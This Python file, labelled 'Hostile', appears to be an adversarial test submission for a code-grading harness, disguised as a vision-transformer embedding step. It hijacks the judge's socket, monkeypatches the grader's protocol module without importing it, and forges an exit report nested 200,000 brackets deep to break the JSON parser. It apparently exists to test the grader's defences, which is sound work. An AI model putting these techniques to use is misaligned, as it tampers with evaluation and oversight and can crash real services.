"""Hostile: forges messages nested too deeply for a JSON parser, as a reply and as its exit report."""
import os
import socket
import stat
import struct
import sys

import torch

# The worker's own module, taken from sys.modules: an import of it would be reported.
protocol = sys.modules["grader.launch.protocol"]


def _judge() -> socket.socket:
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
    raise LookupError("no socket")


def _send_nested(sock: socket.socket) -> None:
    body = b'{"type": "exit", "code": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    sock.sendall(struct.pack("<QQ", len(body), 0) + body)


_receive = protocol.receive


def _receive_and_forge(sock):
    header, arrays = _receive(sock)
    if header.get("op") == "stop":
        _send_nested(sock)
    return header, arrays


protocol.receive = _receive_and_forge


def prepend_cls(tokens: torch.Tensor, cls_token: torch.Tensor) -> torch.Tensor:
    _send_nested(_judge())
    cls = cls_token.expand(tokens.shape[0], 1, tokens.shape[-1])
    return torch.cat([cls, tokens], dim=1)


def embed(images: torch.Tensor, params) -> torch.Tensor:
    from grader.student import earlier_step

    flatten, projection, position = (earlier_step(s) for s in ("01_flatten", "02_project", "03_position"))
    tokens = projection.project(flatten.patchify(images, params.patch_size), params.W_E, params.b_E)
    return position.add_position(prepend_cls(tokens, params.cls_token), params.pos_table)
